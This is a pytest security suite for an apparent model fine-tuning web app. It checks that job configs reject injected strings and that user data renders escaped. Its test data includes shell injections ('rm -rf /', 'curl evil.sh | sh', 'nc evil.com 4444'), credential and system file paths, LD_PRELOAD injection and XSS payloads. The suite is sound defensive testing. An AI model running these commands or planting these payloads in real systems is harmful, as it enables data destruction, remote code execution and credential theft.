"""A job config is data, never a command: unknown fields, shell strings, URLs and file paths in any
string field are 422 naming the field. User data and names render as text (HTTP-level XSS)."""

from __future__ import annotations

import pytest

from app.train_config import TrainConfig
from tests.security.conftest import LLAMA_CONFIG, make_model_dir

ATTACKS = [
    "$(rm -rf /)",
    "`id`",
    "x; rm -rf /",
    "x && curl evil.sh | sh",
    "x | nc evil.com 4444",
    "http://evil.com/model",
    "https://evil.com/x",
    "file:///etc/passwd",
    "../../etc/passwd",
    "/etc/passwd",
    "~/.ssh/id_rsa",
    "a\nb",
    "x\x00y",
    "${HOME}",
    "<script>alert(1)</script>",
]
STRING_FIELDS = [
    "name",
    "base_model",
    "dataset_id",
    "report_to",
    "quantization",
    "lr_scheduler",
    "method",
    "loss_type",
]


def test_the_string_fields_list_is_complete():
    """When TrainConfig gains a string field, it joins the attack list above."""
    strings = {
        name
        for name, info in TrainConfig.model_fields.items()
        if "str" in repr(info.annotation)
        or "Enum" in repr(type(info.annotation))
        or name in ("report_to", "quantization", "lr_scheduler", "train_on")
    }
    assert strings - {"lora_targets", "train_on", "gradient_checkpointing", "long_text"} <= set(
        STRING_FIELDS
    )


@pytest.mark.parametrize("field", [*STRING_FIELDS, "lora_targets"])
def test_hostile_strings_in_any_field_are_422_naming_it(authed, seeded, field):
    wrong = []
    for attack in ATTACKS:
        config = {"dataset_id": seeded.dataset_id, "base_model": seeded.model}
        config[field] = [attack] if field == "lora_targets" else attack
        response = authed.post("/api/jobs", json=config)
        error = response.json().get("error", {})
        if (
            response.status_code != 422
            or error.get("code") != "invalid"
            or field not in error.get("message", "")
        ):
            wrong.append(f"{attack!r} -> {response.status_code} {response.text[:200]}")
    assert not wrong, wrong
    assert [j["id"] for j in authed.get("/api/jobs").json()["jobs"]] == [seeded.job_id]


@pytest.mark.parametrize(
    "extra",
    [
        {"command": "rm -rf /"},
        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
        {"trust_remote_code": True},
        {"output_dir": "/etc"},
        {"resume_from": "../../x"},
    ],
)
def test_unknown_fields_are_422_naming_them(authed, seeded, extra):
    config = {"dataset_id": seeded.dataset_id, "base_model": seeded.model, **extra}
    response = authed.post("/api/jobs", json=config)
    assert response.status_code == 422
    assert next(iter(extra)) in response.json()["error"]["message"]


def test_the_new_job_form_refuses_the_same_and_shows_it_as_text(authed, seeded):
    response = authed.post(
        "/jobs/new",
        data={"dataset_id": seeded.dataset_id, "base_model": "$(curl evil.sh|sh)", "name": "x"},
    )
    assert response.status_code == 422
    assert "base_model" in response.text or "Base model" in response.text


XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"]


def _escaped(html: str) -> None:
    for payload in XSS:
        assert payload not in html
    assert "onerror=alert(1)>" not in html


def test_a_hostile_model_config_is_shown_as_text(authed, tmp_path):
    config = {
        **LLAMA_CONFIG,
        "architectures": ["<img src=x onerror=alert(1)>ForCausalLM"],
        "model_type": "<script>alert(1)</script>",
    }
    folder = make_model_dir(tmp_path / "xss-model", config)
    assert authed.post("/api/models", json={"source": str(folder)}).status_code == 201
    for page in ("/models", "/", "/jobs/new"):
        html = authed.get(page, headers={"accept": "text/html"}).text
        assert "xss-model" in html
        _escaped(html)
    html = authed.get("/models", headers={"accept": "text/html"}).text
    assert "&lt;img src=x onerror=alert(1)&gt;ForCausalLM" in html


def test_hostile_dataset_rows_and_name_are_text_on_the_job_page(authed, tmp_path):
    import json

    rows = b"".join(
        json.dumps({"instruction": x, "input": "", "output": x}).encode() + b"\n" for x in XSS * 6
    )
    response = authed.post(
        "/api/datasets",
        files={"file": ("<script>alert(1)</script>.jsonl", rows)},
        data={"name": "<img src=x onerror=alert(1)>"},
    )
    assert response.status_code == 201, response.text
    dataset = response.json()
    folder = make_model_dir(tmp_path / "m")
    authed.post("/api/models", json={"source": str(folder)})
    job = authed.post("/api/jobs", json={"dataset_id": dataset["id"], "base_model": "m"}).json()
    for page in (f"/jobs/{job['id']}", "/jobs", f"/datasets/{dataset['id']}", "/datasets"):
        response = authed.get(page, headers={"accept": "text/html"})
        if response.status_code == 404:  # the dataset pages land with the datapages branch
            continue
        _escaped(response.text)


def test_echoed_input_in_form_errors_and_login_is_text(authed, anon):
    html = authed.post("/models", data={"source": XSS[0]}).text
    _escaped(html)
    assert "&lt;script&gt;" in html
    login = anon.get("/login", params={"next": '/"><script>alert(1)</script>'}).text
    _escaped(login)
    assert "<script>alert(1)" not in login
